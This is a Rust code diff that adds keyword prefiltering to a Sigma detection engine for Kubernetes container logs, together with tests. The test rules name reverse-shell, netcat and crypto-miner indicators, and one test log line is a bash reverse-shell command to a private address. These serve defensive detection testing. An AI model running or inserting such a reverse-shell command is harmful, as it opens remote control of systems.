@@ -10,6 +10,11 @@
 //! (`user.username|startswith: 'system:serviceaccount:'`). A rule is a
 //! candidate only when all its needs hold.
 //!
+//! A rule whose condition needs a keyword list (`keywords: [...]`, bare
+//! strings matched anywhere in the event) needs one of its keywords in some
+//! string value: one search for every keyword rule of the lane at once,
+//! instead of rsigma's search per rule (each lowering every value first).
+//!
 //! The needs only ever rule out: rsigma still decides every match. A value
 //! the needs cannot judge exactly (a float, a boolean, non-ASCII text, a
 //! flat key with dots) lets the rule through.
@@ -18,19 +23,30 @@ use std::cell::RefCell;
 use std::collections::HashMap;
 
 use ahash::RandomState;
+use aho_corasick::AhoCorasick;
+use rsigma_eval::event::Event;
 use rsigma_eval::matcher::GroupMode;
 use rsigma_eval::{CompiledDetection, CompiledDetectionItem, CompiledMatcher, CompiledRule};
 use rsigma_parser::{ConditionExpr, Quantifier};
 use serde_json::Value;
 
-use super::adapter::alias_name;
-use super::paths::{FieldPaths, Found, Resolved};
+use super::adapter::{alias_name, RecordEvent};
+use super::paths::{FieldPaths, Found};
 
 /// The needs of one lane's rules, indexed by field.
 pub struct Prefilter {
     /// Per rule (in the lane's order): how many of its needs must hold.
     needs: Vec<u8>,
     fields: Vec<FieldIndex>,
+    keywords: Option<KeywordIndex>,
+}
+
+/// The keyword needs of a lane's rules.
+struct KeywordIndex {
+    /// Every needed keyword (rsigma lowers them), ASCII case aside.
+    automaton: AhoCorasick,
+    /// The rules that need one.
+    rules: Vec<u32>,
 }
 
 /// The needs on one field slot.
@@ -58,7 +74,13 @@ struct FieldIndex {
 enum Need<'r> {
     Present,
     OneOf(Values<'r>),
+    /// One of these lowercase keywords in some string value (on
+    /// [`KEYWORDS`], not a field).
+    Keywords(Vec<&'r str>),
 }
+
+/// The slot of keyword needs: the whole event, no one field.
+const KEYWORDS: usize = usize::MAX;
 
 /// Values as rsigma compares them: text folded to lowercase, exact text,
 /// numbers; and the starts of text, folded or exact.
@@ -83,11 +105,22 @@ impl Prefilter {
     pub fn new(rules: &[CompiledRule], paths: &FieldPaths) -> Prefilter {
         let mut needs = Vec::with_capacity(rules.len());
         let mut fields: Vec<FieldIndex> = Vec::new();
+        let (mut keywords, mut keyword_rules) = (Vec::new(), Vec::new());
         for (index, rule) in rules.iter().enumerate() {
             let mut rule_needs = rule_needs(rule, paths);
             rule_needs.truncate(MAX_NEEDS);
             needs.push(rule_needs.len() as u8);
+            let rule = index as u32;
             for (slot, need) in rule_needs {
+                let values = match need {
+                    Need::Keywords(words) => {
+                        keywords.extend(words);
+                        keyword_rules.push(rule);
+                        continue;
+                    }
+                    Need::Present => None,
+                    Need::OneOf(values) => Some(values),
+                };
                 let at = match fields.iter().position(|f| f.slot == slot) {
                     Some(at) => at,
                     None => {
@@ -98,17 +131,31 @@ impl Prefilter {
                         fields.len() - 1
                     }
                 };
-                fields[at].add(index as u32, need);
+                match values {
+                    None => fields[at].present.push(rule),
+                    Some(values) => fields[at].add(rule, values),
+                }
             }
         }
-        Prefilter { needs, fields }
+        let keywords = (!keyword_rules.is_empty()).then(|| KeywordIndex {
+            automaton: AhoCorasick::builder()
+                .ascii_case_insensitive(true)
+                .build(&keywords)
+                .expect("keywords of compiled rules build an automaton"),
+            rules: keyword_rules,
+        });
+        Prefilter {
+            needs,
+            fields,
+            keywords,
+        }
     }
 
     /// The indices of the rules whose needs all hold on the event,
     /// ascending. Without resolved fields every rule is a candidate.
-    pub fn candidates(&self, resolved: Option<&Resolved<'_>>, out: &mut Vec<usize>) {
+    pub fn candidates(&self, event: &RecordEvent<'_>, out: &mut Vec<usize>) {
         out.clear();
-        let Some(resolved) = resolved else {
+        let Some(resolved) = event.resolved() else {
             out.extend(0..self.needs.len());
             return;
         };
@@ -137,6 +184,13 @@ impl Prefilter {
                     field.hits(value, &mut count);
                 }
             }
+            if let Some(keywords) = &self.keywords {
+                if keywords.found_in(event) {
+                    for &rule in &keywords.rules {
+                        tally[rule as usize].0 += 1;
+                    }
+                }
+            }
             out.extend(
                 self.needs
                     .iter()
@@ -156,12 +210,18 @@ thread_local! {
     static TALLY: RefCell<Vec<(u8, u32)>> = const { RefCell::new(Vec::new()) };
 }
 
+impl KeywordIndex {
+    /// Whether a keyword may be in one of the string values rsigma's
+    /// keyword matching visits. rsigma lowers a value with `to_lowercase`,
+    /// which can turn non-ASCII text into ASCII (the Kelvin sign into `k`),
+    /// so non-ASCII text lets the rules through.
+    fn found_in(&self, event: &RecordEvent<'_>) -> bool {
+        event.any_string_value(&|s| !s.is_ascii() || self.automaton.is_match(s))
+    }
+}
+
 impl FieldIndex {
-    fn add(&mut self, rule: u32, need: Need<'_>) {
-        let values = match need {
-            Need::Present => return self.present.push(rule),
-            Need::OneOf(values) => values,
-        };
+    fn add(&mut self, rule: u32, values: Values<'_>) {
         self.valued.push(rule);
         for text in values.folded {
             self.folded.entry(text.into()).or_default().push(rule);
@@ -314,11 +374,13 @@ fn detection_needs<'r>(detection: &'r CompiledDetection, paths: &FieldPaths) -> 
         CompiledDetection::AllOf(items) => both(items.iter().map(|i| item_needs(i, paths))),
         CompiledDetection::And(all) => both(all.iter().map(|d| detection_needs(d, paths))),
         CompiledDetection::AnyOf(all) => either(all.iter().map(|d| detection_needs(d, paths))),
-        // Keywords read every field; an array quantifier may hold on an
-        // absent array.
-        CompiledDetection::Keywords(_)
-        | CompiledDetection::ArrayMatch { .. }
-        | CompiledDetection::Conditional { .. } => Needs::new(),
+        CompiledDetection::Keywords(matcher) => keywords_of(matcher)
+            .map(|words| vec![(KEYWORDS, Need::Keywords(words))])
+            .unwrap_or_default(),
+        // An array quantifier may hold on an absent array.
+        CompiledDetection::ArrayMatch { .. } | CompiledDetection::Conditional { .. } => {
+            Needs::new()
+        }
     }
 }
 
@@ -351,6 +413,31 @@ fn item_needs<'r>(item: &'r CompiledDetectionItem, paths: &FieldPaths) -> Needs<
         needs.push((top, Need::Present));
     }
     needs
+}
+
+/// The lowercase keywords of a keyword list, when it matches only a value
+/// that contains one, case aside (no wildcards, no numbers).
+fn keywords_of(matcher: &CompiledMatcher) -> Option<Vec<&str>> {
+    match matcher {
+        CompiledMatcher::Contains {
+            value,
+            case_insensitive: true,
+        } => Some(vec![value]),
+        CompiledMatcher::AhoCorasickSet {
+            needles,
+            case_insensitive: true,
+            ..
+        } => Some(needles.iter().map(String::as_str).collect()),
+        CompiledMatcher::AnyOf(children)
+        | CompiledMatcher::CaseInsensitiveGroup {
+            children,
+            mode: GroupMode::Any,
+        } => children.iter().try_fold(Vec::new(), |mut all, child| {
+            all.extend(keywords_of(child)?);
+            Some(all)
+        }),
+        _ => None,
+    }
 }
 
 /// The values a matcher accepts, when it accepts nothing else.
@@ -435,6 +522,7 @@ fn either<'r>(mut all: impl Iterator<Item = Needs<'r>>) -> Needs<'r> {
             };
             match (&mut *need, other) {
                 (Need::OneOf(mine), Need::OneOf(theirs)) => mine.union(theirs.clone()),
+                (Need::Keywords(mine), Need::Keywords(theirs)) => mine.extend(theirs),
                 (need, _) => *need = Need::Present,
             }
             true
@@ -445,6 +533,7 @@ fn either<'r>(mut all: impl Iterator<Item = Needs<'r>>) -> Needs<'r> {
 
 #[cfg(test)]
 mod tests {
+    use super::super::adapter::tests::record;
     use super::super::paths::tests::compiled;
     use super::*;
     use serde_json::json;
@@ -530,9 +619,9 @@ detection:
     fn candidates(rules: &[CompiledRule], fields: Value) -> Vec<usize> {
         let paths = paths_of(rules);
         let prefilter = Prefilter::new(rules, &paths);
-        let resolved = paths.resolve(fields.as_object().expect("an object"));
+        let record = record(fields);
         let mut out = Vec::new();
-        prefilter.candidates(Some(&resolved), &mut out);
+        prefilter.candidates(&RecordEvent::with_paths(&record, &paths), &mut out);
         out
     }
 
@@ -546,8 +635,12 @@ detection:
                 let mut needs: Vec<String> = rule_needs(rule, &paths)
                     .into_iter()
                     .map(|(slot, need)| {
+                        if let Need::Keywords(words) = need {
+                            return format!("keywords {words:?}");
+                        }
                         let (path, _) = paths_named(&paths, slot);
                         match need {
+                            Need::Keywords(_) => unreachable!("described above"),
                             Need::Present => format!("{path} present"),
                             Need::OneOf(v)
                                 if v.folded_prefixes.is_empty() && v.exact_prefixes.is_empty() =>
@@ -679,10 +772,97 @@ detection:
         assert_eq!(candidates(&rules, listed), [0, 2, 4]);
         let paths = paths_of(&rules);
         let mut out = Vec::new();
-        Prefilter::new(&rules, &paths).candidates(None, &mut out);
+        let record = record(json!({"verb": "watch"}));
+        Prefilter::new(&rules, &paths).candidates(&RecordEvent::new(&record, 0), &mut out);
         assert_eq!(out, [0, 1, 2, 3, 4, 5, 6, 7, 8], "unresolved: all");
         // Non-ASCII text folds differently: it lets a prefix rule through.
         let accented = json!({"user": {"username": "é"}, "userAgent": "curl/8"});
         assert_eq!(candidates(&rules, accented), [2, 4, 7]);
+    }
+
+    const KEYWORD_RULES: &str = r#"
+title: 0 two keywords (a case-insensitive group in rsigma)
+logsource: {product: kubernetes, service: container}
+detection:
+    keywords: ['/dev/tcp/', 'Mkfifo /tmp/']
+    condition: keywords
+---
+title: 1 eight keywords (an Aho-Corasick set in rsigma), unless a filter
+logsource: {product: kubernetes, service: container}
+detection:
+    keywords: [stratum+tcp://, XMRig/, cryptonight, moneroocean, supportxmr, nanopool.org, c3pool, minexmr]
+    filter:
+        stream: stderr
+    condition: keywords and not filter
+---
+title: 2 one keyword
+logsource: {product: kubernetes, service: container}
+detection:
+    keywords: 'BEGIN RSA PRIVATE KEY'
+    condition: keywords
+---
+title: 3 a wildcard, so no need
+logsource: {product: kubernetes, service: container}
+detection:
+    keywords: ['nc*-e /bin/']
+    condition: keywords
+---
+title: 4 keywords or a field, so no need
+logsource: {product: kubernetes, service: container}
+detection:
+    keywords: ['/dev/tcp/']
+    selection:
+        stream: stdout
+    condition: keywords or selection
+"#;
+
+    #[test]
+    fn a_keyword_rule_needs_one_of_its_keywords_in_some_value() {
+        let rules = compiled(KEYWORD_RULES);
+        let paths = paths_of(&rules);
+        let described: Vec<Vec<String>> = rules
+            .iter()
+            .map(|rule| {
+                let needs = rule_needs(rule, &paths).into_iter();
+                needs
+                    .filter_map(|(_, need)| match need {
+                        Need::Keywords(words) => Some(words.join(" | ")),
+                        _ => None,
+                    })
+                    .collect()
+            })
+            .collect();
+        assert_eq!(
+            described,
+            [
+                vec!["/dev/tcp/ | mkfifo /tmp/"],
+                vec!["stratum+tcp:// | xmrig/ | cryptonight | moneroocean | supportxmr | nanopool.org | c3pool | minexmr"],
+                vec!["begin rsa private key"],
+                vec![],
+                vec![],
+            ]
+        );
+        let line =
+            |log: &str| json!({"stream": "stdout", "log": log, "kubernetes": {"pod": "web"}});
+        assert_eq!(candidates(&rules, line("GET /healthz 200")), [3, 4]);
+        assert_eq!(
+            candidates(&rules, line("bash -i >& /DEV/TCP/10.0.0.9/4444 0>&1")),
+            [0, 1, 2, 3, 4],
+            "any keyword, case aside, lets every keyword rule through"
+        );
+        let nested = json!({"log": "ok", "env": [{"value": "xmrig/6.21 started"}]});
+        assert_eq!(candidates(&rules, nested), [0, 1, 2, 3, 4], "in an array");
+        // rsigma lowers non-ASCII text with `to_lowercase`: the Kelvin sign
+        // becomes `k`, so this is "BEGIN RSA PRIVATE KEY" to it.
+        let kelvin = line("-----BEGIN RSA PRIVATE \u{212a}EY-----");
+        assert_eq!(candidates(&rules, kelvin), [0, 1, 2, 3, 4]);
+        let kelvin = record(line("-----BEGIN RSA PRIVATE \u{212a}EY-----"));
+        let event = RecordEvent::new(&kelvin, 0);
+        let matched: Vec<&str> = rules
+            .iter()
+            .filter(|rule| rsigma_eval::evaluate_rule(rule, &event).is_some())
+            .map(|rule| &rule.title[..1])
+            .collect();
+        assert_eq!(matched, ["2", "4"], "the keyword, and the stream");
     }
 }
